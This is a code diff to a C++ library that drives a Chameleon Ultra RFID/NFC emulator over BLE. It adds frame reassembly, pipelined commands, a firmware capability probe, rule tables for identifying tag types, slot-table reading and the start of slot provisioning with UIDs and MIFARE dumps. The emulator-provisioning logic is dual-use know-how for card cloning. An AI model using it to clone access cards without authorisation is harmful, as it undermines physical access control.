@@ -7,11 +7,20 @@
  */
 
 #include "chameleonUltra.h"
+#include "keyCache.h"
+#include "keyDict.h"
+#include "dump.h"
+#include "capture.h"
+#include "allocAudit.h"
+#include "uidIndex.h"
+#include "deviceCache.h"
 
 #define MAX_DUMP_SIZE 160
 
+static_assert(CHAMELEON_EMU_FRAME % MAX_DUMP_SIZE == 0 && CHAMELEON_EMU_FRAME < 512, "CHAMELEON_EMU_FRAME must be a multiple of 160 below 512");
 
-std::vector<ChameleonUltra::CmdResponse> chameleonResponses;
+
+ChameleonUltra::ResponseQueue chameleonResponses;
 
 
 uint8_t calculateLRC(const uint8_t *data, size_t length) {
@@ -38,27 +47,64 @@ class scanCallbacks : public NimBLEAdvertisedDeviceCallbacks {
 };
 
 
+// Frames larger than the BLE MTU arrive split over several notifications
+ChameleonUltra::CmdResponse pendingResponse;
+size_t pendingFrameSize = 0;
+
+BleCapture *chameleonCapture = nullptr;
+
+
 void chameleonNotifyCB(NimBLERemoteCharacteristic* pRemoteCharacteristic, uint8_t* pData, size_t length, bool isNotify){
-    ChameleonUltra::CmdResponse rsp;
+    ChameleonUltra::CmdResponse &rsp = pendingResponse;
+
+    if (chameleonCapture) chameleonCapture->record(BleCapture::RX, pData, length);
+
+    if (pendingFrameSize == 0) {
+        if (length < 10 || pData[0] != 0x11 || pData[1] != 0xEF) return;
+
+        pendingFrameSize = 10 + ((pData[6] << 8) | pData[7]);
+        if (pendingFrameSize > sizeof(rsp.raw)) pendingFrameSize = sizeof(rsp.raw);
+        rsp.length = 0;
+    }
 
-    rsp.length = length;
-    memcpy(rsp.raw, pData, length);
+    size_t chunk = min(length, pendingFrameSize - rsp.length);
+    memcpy(rsp.raw + rsp.length, pData, chunk);
+    rsp.length += chunk;
 
-    rsp.command = (pData[2] << 8) | pData[3];
-    rsp.status = pData[5];
-    rsp.dataSize = pData[7];
+    if (rsp.length < pendingFrameSize) return;
+    pendingFrameSize = 0;
+
+    rsp.command = (rsp.raw[2] << 8) | rsp.raw[3];
+    rsp.status = rsp.raw[5];
+    rsp.dataSize = min<size_t>((rsp.raw[6] << 8) | rsp.raw[7], rsp.length - 10);
 
     if (rsp.dataSize > 0) {
-        memcpy(rsp.data, pData+9, rsp.dataSize);
+        memcpy(rsp.data, rsp.raw+9, rsp.dataSize);
     }
 
-    chameleonResponses.push_back(rsp);
+    chameleonResponses.push(rsp);
 }
 
 
 ChameleonUltra::ChameleonUltra(bool debug) { _debug = debug;}
 
 
+void ChameleonUltra::setCapture(BleCapture *capture) {
+    chameleonCapture = capture;
+}
+
+
+void ChameleonUltra::setTransport(TransportHook hook, void *ctx) {
+    _transport = hook;
+    _transportCtx = ctx;
+}
+
+
+void ChameleonUltra::notify(const uint8_t *data, size_t length) {
+    chameleonNotifyCB(nullptr, (uint8_t *)data, length, true);
+}
+
+
 ChameleonUltra::~ChameleonUltra() {
     if (_debug) Serial.println("Killing Chameleon...");
 #ifdef NIMBLE_V2_PLUS
@@ -140,6 +186,7 @@ bool ChameleonUltra::connectToChamelon() {
 
     Serial.print("Connected to: ");
     Serial.println(pClient->getPeerAddress().toString().c_str());
+    _address = (uint64_t)pClient->getPeerAddress();
 
     delay(200);
 
@@ -162,8 +209,12 @@ bool ChameleonUltra::connectToChamelon() {
     }
 
     writeChr = pChrWrite;
+    _client = pClient;
     pChrNotify->subscribe(true, chameleonNotifyCB);
 
+    // Without it every command is assumed supported
+    probeDevice();
+
     return true;
 }
 
@@ -242,14 +293,22 @@ bool ChameleonUltra::chamelonServiceDiscovery() {
 }
 
 
-bool ChameleonUltra::writeCommand(Command cmd, uint8_t *data, size_t length) {
-    uint8_t payload[200] = {
+bool ChameleonUltra::sendCommand(Command cmd, const uint8_t *data, size_t length) {
+    uint8_t payload[sizeof(CmdResponse::raw)] = {
         0x11, 0xef,
         0x00, 0x00,  // command
         0x00, 0x00, 0x00, 0x00,  // data length
         0x00,  // LRC (command + data length)
         0x00  // LRC (data)
     };
+    if (length > sizeof(payload) - 10) return false;
+
+    // It would only come back as INVALID_CMD
+    if (!supports(cmd)) {
+        Serial.printf("Command %u not supported by the firmware\n", (unsigned)cmd);
+        return false;
+    }
+
     payload[2] = (cmd >> 8) & 0xFF;
     payload[3] = cmd & 0xFF;
     payload[6] = (length >> 8) & 0xFF;
@@ -267,20 +326,126 @@ bool ChameleonUltra::writeCommand(Command cmd, uint8_t *data, size_t length) {
         Serial.println("");
     }
 
-    bool writeRes = writeChr->writeValue(payload, 10+length, true);
+    if (chameleonCapture) chameleonCapture->record(BleCapture::TX, payload, 10+length);
+    if (_transport) return _transport(payload, 10+length, _transportCtx);
+
+    // A write longer than MTU-3 becomes a prepared (long) write, which the
+    // NUS RX characteristic doesn't take. The firmware parses frames from
+    // the byte stream, so large frames go out in MTU sized pieces.
+    uint16_t mtu = _client ? _client->getMTU() : 0;
+    size_t piece = mtu > 23 ? mtu - 3 : 20;
+    for (size_t offset = 0; offset < 10+length; offset += piece) {
+        if (!writeChr->writeValue(payload + offset, min(piece, 10+length - offset), true)) return false;
+    }
+    return true;
+}
+
+
+bool ChameleonUltra::writeCommand(Command cmd, uint8_t *data, size_t length) {
+    chameleonResponses.clear();
+
+    // Nothing will answer a frame that was not sent
+    if (!sendCommand(cmd, data, length)) return false;
 
     delay(100);
 
-    bool res = checkResponse();
+    return checkResponse();
+}
+
+
+bool ChameleonUltra::exchange(Command cmd, const uint8_t *data, size_t length) {
+    chameleonResponses.clear();
+
+    if (!sendCommand(cmd, data, length) || !waitResponse(responseTimeout)) return false;
+
+    return checkResponse();
+}
+
+
+bool ChameleonUltra::runPipeline(const CmdRequest *requests, size_t count, ResponseHandler onResponse, void *ctx) {
+    size_t sent = 0;
+    size_t done = 0;
+    uint8_t depth = constrain(pipelineDepth, 1, ResponseQueue::CAPACITY);
+    uint8_t retries = 0;
+
+    chameleonResponses.clear();
+
+    while (done < count) {
+        // keep up to `depth` requests in flight
+        while (sent < count && sent - done < depth) {
+            // Frames carry no sequence number and the firmware drops a frame
+            // arriving while it is busy, so a response is only told apart by
+            // its command. A request waits while one with the same command is
+            // in flight, runs of the same command go one at a time.
+            bool pending = false;
+            for (size_t i = done; i < sent && !pending; i++) pending = requests[i].cmd == requests[sent].cmd;
+            if (pending) break;
+
+            if (!sendCommand(requests[sent].cmd, requests[sent].data, requests[sent].length)) break;
+            sent++;
+        }
+        // Resending won't help
+        if (sent == done && !supports(requests[done].cmd)) return false;
+
+        bool received = sent > done && waitResponse(responseTimeout);
+
+        if (!received || chameleonResponses.front().command != requests[done].cmd) {
+            // A frame was dropped or its response got lost. Drain whatever is
+            // still in flight and resend from the first unanswered request
+            // one at a time. Later requests may run twice, so pipelined
+            // requests must be idempotent.
+            if (++retries > 3) return false;
+
+            while (sent > done && waitResponse(responseTimeout)) {
+                chameleonResponses.pop();
+                sent--;
+            }
+            chameleonResponses.clear();
+            sent = done;
+            depth = 1;
+            continue;
+        }
+
+        bool success = checkResponse();
+        if (onResponse && !onResponse(this, done, success, ctx)) {
+            // Don't leave late responses behind for the next command
+            while (++done < sent && waitResponse(responseTimeout)) {
+                chameleonResponses.pop();
+            }
+            chameleonResponses.clear();
+            return false;
+        }
+        done++;
+        retries = 0;
+    }
+
+    return true;
+}
+
+
+ChameleonUltra::AllowState ChameleonUltra::allowLookup(const uint8_t *uid, size_t length) {
+    if (!allowList) return ALLOW_UNCHECKED;
+    return allowList->contains(uid, length) ? ALLOW_GRANTED : ALLOW_DENIED;
+}
+
+
+bool ChameleonUltra::waitResponse(uint32_t timeout) {
+    uint32_t start = millis();
 
-    return writeRes && res;
+    while (chameleonResponses.empty()) {
+        if (timeout > 0 && millis() - start >= timeout) return false;
+        delay(1);
+    }
+
+    return true;
 }
 
 
 bool ChameleonUltra::checkResponse() {
-    while(chameleonResponses.empty()) {delay(10);}
+    waitResponse();
 
-    cmdResponse = chameleonResponses[0];
+    cmdResponse = chameleonResponses.front();
+    chameleonResponses.pop();
     bool success = false;
 
     switch (cmdResponse.status) {
@@ -306,7 +471,7 @@ bool ChameleonUltra::checkResponse() {
             break;
         case HF_TAG_NO:
         case EM410X_TAG_NO_FOUND:
-            Serial.println("Tag not found");
+            if (!_polling) Serial.println("Tag not found");
             success = false;
             break;
 
@@ -319,6 +484,7 @@ bool ChameleonUltra::checkResponse() {
     if (success && cmdResponse.command == EM410X_SCAN) {
         lfTagData.size = cmdResponse.dataSize;
         memcpy(lfTagData.uidByte, cmdResponse.data, cmdResponse.dataSize);
+        lfTagData.allowed = allowLookup(lfTagData.uidByte, lfTagData.size);
     }
     else if (success && cmdResponse.command == HF14A_SCAN) {
         hfTagData.size = cmdResponse.data[0];
@@ -328,6 +494,16 @@ bool ChameleonUltra::checkResponse() {
         hfTagData.atqaByte[0] = cmdResponse.data[2 + hfTagData.size];
 
         hfTagData.sak = cmdResponse.data[3 + hfTagData.size];
+
+        hfTagData.atsSize = 0;
+        if (cmdResponse.dataSize > 4 + hfTagData.size) {
+            hfTagData.atsSize = min<size_t>(cmdResponse.data[4 + hfTagData.size], sizeof(hfTagData.atsByte));
+            memcpy(hfTagData.atsByte, cmdResponse.data + 5 + hfTagData.size, hfTagData.atsSize);
+        }
+
+        // GET_VERSION data belongs to the previous tag until cmdMfuVersion runs again
+        tagVersion.size = 0;
+        hfTagData.allowed = allowLookup(hfTagData.uidByte, hfTagData.size);
     }
 
     if (_debug) {
@@ -339,100 +515,609 @@ bool ChameleonUltra::checkResponse() {
         Serial.println();
     }
 
-    chameleonResponses.clear();
     return success;
 }
 
 
-ChameleonUltra::TagType ChameleonUltra::getTagType(byte sak) {
-    TagType tagType;
-
-    switch (sak) {
-        case 0x00: tagType = MF0ICU1; break;
-        case 0x08: tagType = MIFARE_1024; break;
-        case 0x09: tagType = MIFARE_Mini; break;
-        // case 0x10: tagType = F("MIFARE Plus 2KB"); break;
-        // case 0x11: tagType = F("MIFARE Plus 4KB"); break;
-        case 0x18: tagType = MIFARE_4096; break;
-        case 0x19: tagType = MIFARE_2048; break;
-        case 0x20: tagType = ISO_14443; break;
-        // case 0x28: tagType = F("SmartMX with MIFARE Classic 1KB"); break;
-        // case 0x38: tagType = F("SmartMX with MIFARE Classic 4KB"); break;
-        // case 0x40: tagType = F("PICC compliant with ISO/IEC 18092 (NFC)"); break;
-        default: tagType = UNDEFINED; break;
-    }
-
-    if (tagVersion.size == 8) {
-        bool isMikronUlev1 = tagVersion.data[1] == 0x34 && tagVersion.data[2] == 0x21;
+/////////////////////////////////////////////////////////////////////////////////////
+// Device probe
+/////////////////////////////////////////////////////////////////////////////////////
+static bool commandBit(uint16_t cmd, uint16_t &bit) {
+    uint16_t group = cmd / 1000;
+    if (group < 1 || group > 5 || cmd % 1000 >= 128) return false;
+    bit = (group - 1) * 128 + cmd % 1000;
+    return true;
+}
+
+
+// Commands the firmware doesn't know answer INVALID_CMD, those fields are
+// left at their defaults
+static bool probeHandler(ChameleonUltra *chm, size_t /* index */, bool success, void *ctx) {
+    ChameleonUltra::DeviceInfo &info = *(ChameleonUltra::DeviceInfo *)ctx;
+    const ChameleonUltra::CmdResponse &rsp = chm->cmdResponse;
+    if (!success) return true;
+
+    switch (rsp.command) {
+        case ChameleonUltra::GET_APP_VERSION:
+            if (rsp.dataSize < 2) break;
+            info.major = rsp.data[0];
+            info.minor = rsp.data[1];
+            info.valid = true;
+            break;
+        case ChameleonUltra::GET_GIT_VERSION: {
+            size_t length = min<size_t>(rsp.dataSize, sizeof(info.gitVersion) - 1);
+            memcpy(info.gitVersion, rsp.data, length);
+            info.gitVersion[length] = 0;
+            break;
+        }
+        case ChameleonUltra::GET_DEVICE_MODEL:
+            if (rsp.dataSize >= 1) info.model = (ChameleonUltra::DeviceModel)rsp.data[0];
+            break;
+        case ChameleonUltra::GET_DEVICE_SETTINGS:
+            info.settingsSize = min<size_t>(rsp.dataSize, sizeof(info.settings));
+            memcpy(info.settings, rsp.data, info.settingsSize);
+            break;
+        case ChameleonUltra::GET_DEVICE_CAPABILITIES:
+            // u16 command IDs, big endian
+            for (size_t i = 0; i + 1 < rsp.dataSize; i += 2) {
+                uint16_t bit;
+                if (commandBit((rsp.data[i] << 8) | rsp.data[i + 1], bit)) info.commands[bit / 8] |= 0x80 >> (bit % 8);
+            }
+            info.hasCapabilities = true;
+            break;
+        default:
+            break;
+    }
+    return true;
+}
+
 
+bool ChameleonUltra::probeDevice(bool refresh) {
+    DeviceInfo cached;
+
+    // The address survives firmware updates, the git version doesn't
+    if (!refresh && deviceCache && _address && deviceCache->load(_address, cached)) {
+        deviceInfo = {};
         if (
-            (tagVersion.data[2] == 3 || isMikronUlev1)
-            && tagVersion.data[4] == 1
-            && tagVersion.data[5] == 0
+            exchange(GET_GIT_VERSION)
+            && cmdResponse.dataSize == strnlen(cached.gitVersion, sizeof(cached.gitVersion))
+            && memcmp(cmdResponse.data, cached.gitVersion, cmdResponse.dataSize) == 0
         ) {
-            switch (tagVersion.data[6]) {
-                case 0x0B: tagType = MF0UL11; break;
-                case 0x0E: tagType = MF0UL21; break;
-            }
+            deviceInfo = cached;
+            Serial.printf("Firmware v%u.%u (%s), cached\n", deviceInfo.major, deviceInfo.minor, deviceInfo.gitVersion);
+            return true;
         }
-        else if (tagVersion.data[2] == 4 && tagVersion.data[4] == 1 && tagVersion.data[5] == 0) {
-            switch (tagVersion.data[6]) {
-                case 0x0B: tagType = NTAG_210; break;
-                case 0x0E: tagType = NTAG_212; break;
-                case 0x0F: tagType = NTAG_213; break;
-                case 0x11: tagType = NTAG_215; break;
-                case 0x13: tagType = NTAG_216; break;
-            }
+    }
+
+    // Nothing is filtered by supports() while probing
+    deviceInfo = {};
+
+    const CmdRequest requests[] = {
+        {GET_APP_VERSION, nullptr, 0},
+        {GET_GIT_VERSION, nullptr, 0},
+        {GET_DEVICE_MODEL, nullptr, 0},
+        {GET_DEVICE_SETTINGS, nullptr, 0},
+        {GET_DEVICE_CAPABILITIES, nullptr, 0},
+    };
+    DeviceInfo info = {};
+    info.model = DEVICE_UNKNOWN;
+
+    if (!runPipeline(requests, sizeof(requests) / sizeof(requests[0]), probeHandler, &info) || !info.valid) {
+        Serial.println("Device probe failed");
+        return false;
+    }
+    deviceInfo = info;
+
+    uint16_t supported = 0;
+    for (size_t i = 0; i < sizeof(info.commands); i++) supported += __builtin_popcount(info.commands[i]);
+
+    Serial.printf(
+        "Firmware v%u.%u (%s), %s, ", info.major, info.minor, info.gitVersion,
+        info.model == DEVICE_ULTRA ? "Ultra" : info.model == DEVICE_LITE ? "Lite" : "unknown model"
+    );
+    if (info.hasCapabilities) Serial.printf("%u commands\n", supported);
+    else Serial.println("capabilities not reported");
+
+    if (deviceCache && _address) deviceCache->store(_address, info);
+    return true;
+}
+
+
+bool ChameleonUltra::supports(Command cmd) const {
+    uint16_t bit;
+    if (!deviceInfo.valid || !deviceInfo.hasCapabilities || !commandBit(cmd, bit)) return true;
+    return deviceInfo.commands[bit / 8] >> (7 - bit % 8) & 1;
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Tag identification
+/////////////////////////////////////////////////////////////////////////////////////
+// Rules are evaluated in order and the first match wins, so specific entries
+// (ATQA or ATS dependent) must come before the generic SAK only ones.
+// ATQA mask 0xFF3F ignores the UID size bits.
+
+typedef struct {
+    uint8_t sak;
+    uint8_t sakMask;
+    uint16_t atqa;
+    uint16_t atqaMask;
+    uint8_t histSize;  // ATS historical bytes prefix, 0 to ignore the ATS
+    uint8_t hist[4];
+    ChameleonUltra::TagModel model;
+} TagSakRule;
+
+typedef struct {
+    uint8_t vendor;
+    uint8_t vendorMask;
+    uint8_t productType;
+    uint8_t storageSize;
+    ChameleonUltra::TagModel model;
+} TagVersionRule;
+
+typedef struct {
+    ChameleonUltra::TagType tagType;
+    const char *name;
+} TagModelInfo;
+
+
+static constexpr TagSakRule tagSakRules[] = {
+    {0x20, 0xFF, 0x0304, 0xFF3F, 0, {}, ChameleonUltra::MODEL_MIFARE_DESFIRE},
+    {0x20, 0xFF, 0x0004, 0xFF3F, 4, {0xC1, 0x05, 0x2F, 0x2F}, ChameleonUltra::MODEL_MIFARE_PLUS_2K},
+    {0x20, 0xFF, 0x0002, 0xFF3F, 4, {0xC1, 0x05, 0x2F, 0x2F}, ChameleonUltra::MODEL_MIFARE_PLUS_4K},
+
+    {0x00, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_ULTRALIGHT},
+    {0x08, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_1K},
+    {0x88, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_1K},
+    {0x09, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_MINI},
+    {0x10, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_PLUS_2K},
+    {0x11, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_PLUS_4K},
+    {0x18, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_4K},
+    {0x19, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_MIFARE_2K},
+    {0x20, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_ISO_14443_4},
+    {0x28, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_SMARTMX_MIFARE_1K},
+    {0x38, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_SMARTMX_MIFARE_4K},
+    {0x40, 0xFF, 0x0000, 0x0000, 0, {}, ChameleonUltra::MODEL_ISO_18092},
+};
+
+// GET_VERSION: [0] header, [1] vendor, [2] product type, [3] subtype,
+// [4] major, [5] minor, [6] storage size, [7] protocol
+static constexpr TagVersionRule tagVersionRules[] = {
+    {0x00, 0x00, 0x03, 0x0B, ChameleonUltra::MODEL_MIFARE_ULTRALIGHT_EV1_48},
+    {0x00, 0x00, 0x03, 0x0E, ChameleonUltra::MODEL_MIFARE_ULTRALIGHT_EV1_128},
+    {0x34, 0xFF, 0x21, 0x0B, ChameleonUltra::MODEL_MIFARE_ULTRALIGHT_EV1_48},  // Mikron
+    {0x34, 0xFF, 0x21, 0x0E, ChameleonUltra::MODEL_MIFARE_ULTRALIGHT_EV1_128}, // Mikron
+    {0x00, 0x00, 0x04, 0x0B, ChameleonUltra::MODEL_NTAG_210},
+    {0x00, 0x00, 0x04, 0x0E, ChameleonUltra::MODEL_NTAG_212},
+    {0x00, 0x00, 0x04, 0x0F, ChameleonUltra::MODEL_NTAG_213},
+    {0x00, 0x00, 0x04, 0x11, ChameleonUltra::MODEL_NTAG_215},
+    {0x00, 0x00, 0x04, 0x13, ChameleonUltra::MODEL_NTAG_216},
+};
+
+// Indexed by TagModel
+static constexpr TagModelInfo tagModelInfo[] = {
+    {ChameleonUltra::UNDEFINED, "Unknown type"},
+    {ChameleonUltra::MIFARE_Mini, "MIFARE Mini, 320 bytes"},
+    {ChameleonUltra::MIFARE_1024, "MIFARE 1KB"},
+    {ChameleonUltra::MIFARE_2048, "MIFARE 2KB"},
+    {ChameleonUltra::MIFARE_4096, "MIFARE 4KB"},
+    {ChameleonUltra::UNDEFINED, "MIFARE Plus 2KB"},
+    {ChameleonUltra::UNDEFINED, "MIFARE Plus 4KB"},
+    {ChameleonUltra::UNDEFINED, "SmartMX with MIFARE Classic 1KB"},
+    {ChameleonUltra::UNDEFINED, "SmartMX with MIFARE Classic 4KB"},
+    {ChameleonUltra::UNDEFINED, "MIFARE DESFire"},
+    {ChameleonUltra::MF0ICU1, "MIFARE Ultralight"},
+    {ChameleonUltra::MF0UL11, "Mifare Ultralight EV1 48b"},
+    {ChameleonUltra::MF0UL21, "Mifare Ultralight EV1 128b"},
+    {ChameleonUltra::NTAG_210, "NTAG 210"},
+    {ChameleonUltra::NTAG_212, "NTAG 212"},
+    {ChameleonUltra::NTAG_213, "NTAG 213"},
+    {ChameleonUltra::NTAG_215, "NTAG 215"},
+    {ChameleonUltra::NTAG_216, "NTAG 216"},
+    {ChameleonUltra::ISO_14443, "PICC compliant with ISO/IEC 14443-4"},
+    {ChameleonUltra::UNDEFINED, "PICC compliant with ISO/IEC 18092 (NFC)"},
+};
+static_assert(
+    sizeof(tagModelInfo) / sizeof(tagModelInfo[0]) == ChameleonUltra::MODEL_COUNT,
+    "tagModelInfo must have one entry per TagModel"
+);
+
+
+static bool matchAtsHistorical(const TagSakRule &rule, const byte *ats, size_t atsSize) {
+    if (rule.histSize == 0) return true;
+    if (!ats || atsSize < 2 || ats[0] > atsSize) return false;
+
+    // TL, T0 and the optional TA/TB/TC interface bytes precede the historical bytes
+    size_t tl = ats[0];
+    byte t0 = ats[1];
+    size_t histStart = 2 + ((t0 >> 4) & 1) + ((t0 >> 5) & 1) + ((t0 >> 6) & 1);
+
+    if (histStart + rule.histSize > tl) return false;
+
+    return memcmp(ats + histStart, rule.hist, rule.histSize) == 0;
+}
+
+
+ChameleonUltra::TagInfo ChameleonUltra::identifyTag(
+    byte sak, const byte *atqa,
+    const byte *ats, size_t atsSize,
+    const byte *version, size_t versionSize
+) {
+    TagModel model = MODEL_UNKNOWN;
+    uint16_t atqa16 = atqa ? (atqa[0] << 8) | atqa[1] : 0;
+
+    for (const TagSakRule &rule : tagSakRules) {
+        if ((sak & rule.sakMask) != rule.sak) continue;
+        if (rule.atqaMask && (!atqa || (atqa16 & rule.atqaMask) != rule.atqa)) continue;
+        if (!matchAtsHistorical(rule, ats, atsSize)) continue;
+
+        model = rule.model;
+        break;
+    }
+
+    if (version && versionSize == 8 && version[4] == 1 && version[5] == 0) {
+        for (const TagVersionRule &rule : tagVersionRules) {
+            if ((version[1] & rule.vendorMask) != rule.vendor) continue;
+            if (version[2] != rule.productType || version[6] != rule.storageSize) continue;
+
+            model = rule.model;
+            break;
         }
     }
 
-    return tagType;
+    return {model, tagModelInfo[model].tagType, tagModelInfo[model].name};
+}
+
+
+ChameleonUltra::TagInfo ChameleonUltra::identifyTag() {
+    return identifyTag(
+        hfTagData.sak, hfTagData.atqaByte,
+        hfTagData.atsByte, hfTagData.atsSize,
+        tagVersion.data, tagVersion.size
+    );
+}
+
+
+ChameleonUltra::TagType ChameleonUltra::getTagType(byte sak) {
+    return identifyTag(
+        sak, hfTagData.atqaByte,
+        hfTagData.atsByte, hfTagData.atsSize,
+        tagVersion.data, tagVersion.size
+    ).tagType;
+}
+
+
+const char *ChameleonUltra::getTagTypeName(byte sak) {
+    return identifyTag(
+        sak, hfTagData.atqaByte,
+        hfTagData.atsByte, hfTagData.atsSize,
+        tagVersion.data, tagVersion.size
+    ).name;
 }
 
 
 String ChameleonUltra::getTagTypeStr(byte sak) {
-    String tagType;
-
-    switch (sak) {
-        case 0x00: tagType = F("MIFARE Ultralight"); break;
-        case 0x08: tagType = F("MIFARE 1KB"); break;
-        case 0x09: tagType = F("MIFARE Mini, 320 bytes"); break;
-        case 0x10: tagType = F("MIFARE Plus 2KB"); break;
-        case 0x11: tagType = F("MIFARE Plus 4KB"); break;
-        case 0x18: tagType = F("MIFARE 4KB"); break;
-        case 0x19: tagType = F("MIFARE 2KB"); break;
-        case 0x20: tagType = F("PICC compliant with ISO/IEC 14443-4"); break;
-        case 0x28: tagType = F("SmartMX with MIFARE Classic 1KB"); break;
-        case 0x38: tagType = F("SmartMX with MIFARE Classic 4KB"); break;
-        case 0x40: tagType = F("PICC compliant with ISO/IEC 18092 (NFC)"); break;
-        default: tagType = F("Unknown type"); break;
-    }
-
-    if (tagVersion.size == 8) {
-        bool isMikronUlev1 = tagVersion.data[1] == 0x34 && tagVersion.data[2] == 0x21;
+    return String(getTagTypeName(sak));
+}
+
+
+// Slot table
+
+#define SLOT_TABLE_HEADER_CMDS 3
+
+
+static bool slotTableHandler(ChameleonUltra *chm, size_t index, bool success, void * /* ctx */) {
+    ChameleonUltra::SlotTable &table = chm->slotTable;
+    const ChameleonUltra::CmdResponse &rsp = chm->cmdResponse;
+
+    switch (rsp.command) {
+        case ChameleonUltra::GET_ACTIVE_SLOT:
+            if (!success || rsp.dataSize < 1) return false;
+            table.activeSlot = rsp.data[0] + 1;
+            break;
+
+        case ChameleonUltra::GET_SLOT_INFO:
+            if (!success || rsp.dataSize < 32) return false;
+            for (int i = 0; i < 8; i++) {
+                table.slots[i].hfType = (ChameleonUltra::TagType)((rsp.data[i*4] << 8) | rsp.data[i*4 + 1]);
+                table.slots[i].lfType = (ChameleonUltra::TagType)((rsp.data[i*4 + 2] << 8) | rsp.data[i*4 + 3]);
+            }
+            break;
+
+        case ChameleonUltra::GET_ENABLED_SLOTS:
+            if (!success || rsp.dataSize < 16) return false;
+            for (int i = 0; i < 8; i++) {
+                table.slots[i].hfEnabled = rsp.data[i*2];
+                table.slots[i].lfEnabled = rsp.data[i*2 + 1];
+            }
+            break;
+
+        case ChameleonUltra::GET_SLOT_TAG_NICK: {
+            // slots without a nick name answer with an error status
+            size_t nick = index - SLOT_TABLE_HEADER_CMDS;
+            ChameleonUltra::SlotInfo &slot = table.slots[nick / 2];
+            char *name = (nick % 2 == 0) ? slot.hfNick : slot.lfNick;
+            size_t len = success ? min<size_t>(rsp.dataSize, sizeof(slot.hfNick) - 1) : 0;
+
+            memcpy(name, rsp.data, len);
+            name[len] = '\0';
+            break;
+        }
+
+        case ChameleonUltra::MF1_GET_EMULATOR_CONFIG:
+            // fails when the active slot is not a MIFARE Classic one
+            table.mfConfigValid = success && rsp.dataSize >= 5;
+            if (table.mfConfigValid) {
+                table.mfConfig.detection = rsp.data[0];
+                table.mfConfig.gen1a = rsp.data[1];
+                table.mfConfig.gen2 = rsp.data[2];
+                table.mfConfig.blockAntiColl = rsp.data[3];
+                table.mfConfig.writeMode = rsp.data[4];
+            }
+            break;
+
+        default:
+            return false;
+    }
+
+    return true;
+}
+
+
+bool ChameleonUltra::refreshSlotTable() {
+    uint8_t nickArgs[16][2];
+    CmdRequest requests[SLOT_TABLE_HEADER_CMDS + 16 + 1] = {
+        {GET_ACTIVE_SLOT, nullptr, 0},
+        {GET_SLOT_INFO, nullptr, 0},
+        {GET_ENABLED_SLOTS, nullptr, 0},
+    };
+
+    for (uint8_t i = 0; i < 16; i++) {
+        nickArgs[i][0] = i / 2;
+        nickArgs[i][1] = (i % 2 == 0) ? RFID_HF : RFID_LF;
+        requests[SLOT_TABLE_HEADER_CMDS + i] = {GET_SLOT_TAG_NICK, nickArgs[i], 2};
+    }
+    requests[SLOT_TABLE_HEADER_CMDS + 16] = {MF1_GET_EMULATOR_CONFIG, nullptr, 0};
+
+    slotTable.valid = runPipeline(requests, sizeof(requests) / sizeof(requests[0]), slotTableHandler);
+
+    return slotTable.valid;
+}
+
+
+const ChameleonUltra::SlotInfo *ChameleonUltra::getSlotInfo(uint8_t slot) {
+    if (!slotTable.valid || slot < 1 || slot > 8) return nullptr;
+
+    return &slotTable.slots[slot-1];
+}
+
+
+// Slot provisioning
+
+typedef struct {
+    const ChameleonUltra::SlotManifest *manifest;
+    ChameleonUltra::ProvisionResult *result;
+    const ChameleonUltra::CmdRequest *requests;
+    size_t firstDumpRead;
+    bool antiCollMatch;
+    bool lfIdMatch;
+    uint32_t dumpMismatch;  // one bit per MAX_DUMP_SIZE chunk
+} ProvisionCtx;
+
+
+static bool isMifareClassic(ChameleonUltra::TagType tagType) {
+    return tagType >= ChameleonUltra::MIFARE_Mini && tagType <= ChameleonUltra::MIFARE_4096;
+}
+
+
+static size_t encodeAntiColl(const ChameleonUltra::SlotManifest &m, uint8_t *out) {
+    size_t index = 0;
+    out[index++] = m.uidSize;
+    memcpy(out + index, m.uid, m.uidSize);
+    index += m.uidSize;
+    out[index++] = m.atqa[1];
+    out[index++] = m.atqa[0];
+    out[index++] = m.sak;
+    out[index++] = 0x00;  // ats
+
+    return index;
+}
 
+
+static bool provisionHandler(ChameleonUltra *chm, size_t index, bool success, void *ctx) {
+    ProvisionCtx *p = (ProvisionCtx *)ctx;
+    const ChameleonUltra::CmdResponse &rsp = chm->cmdResponse;
+    const ChameleonUltra::SlotManifest &m = *p->manifest;
+
+    switch (rsp.command) {
+        case ChameleonUltra::HF14A_GET_ANTI_COLL_DATA: {
+            uint8_t expected[16];
+            size_t len = encodeAntiColl(m, expected);
+            p->antiCollMatch = success && rsp.dataSize == len && memcmp(rsp.data, expected, len) == 0;
+            return true;
+        }
+        case ChameleonUltra::EM410X_GET_EMU_ID:
+            p->lfIdMatch = success && rsp.dataSize == 5 && memcmp(rsp.data, m.lfId, 5) == 0;
+            return true;
+
+        case ChameleonUltra::MF1_READ_EMU_BLOCK_DATA: {
+            size_t chunk = index - p->firstDumpRead;
+            size_t offset = chunk * MAX_DUMP_SIZE;
+            size_t len = min<size_t>(MAX_DUMP_SIZE, m.dumpSize - offset);
+            if (success && rsp.dataSize == len && memcmp(rsp.data, m.dump + offset, len) == 0) {
+                p->dumpMismatch &= ~(1UL << chunk);
+            }
+            return true;
+        }
+
+        case ChameleonUltra::DELETE_SLOT_TAG_NICK:
+            // nothing to delete is fine
+            return true;
+
+        default:
+            if (!success) {
+                p->result->status = ChameleonUltra::PROVISION_FAILED;
+                p->result->failedCmd = p->requests[index].cmd;
+            }
+            return success;
+    }
+}
+
+
+bool ChameleonUltra::provisionSlots(const SlotManifest manifest[8], ProvisionResult results[8], uint8_t activeSlot) {
+    // the cache may not reflect changes made by other clients
+    if (!refreshSlotTable()) return false;
+
+    uint8_t restoreSlot = activeSlot ? activeSlot : slotTable.activeSlot;
+    // Slot the device is on, 0 when unknown
+    uint8_t deviceSlot = slotTable.activeSlot;
+    bool changed = false;
+    bool allOk = true;
+
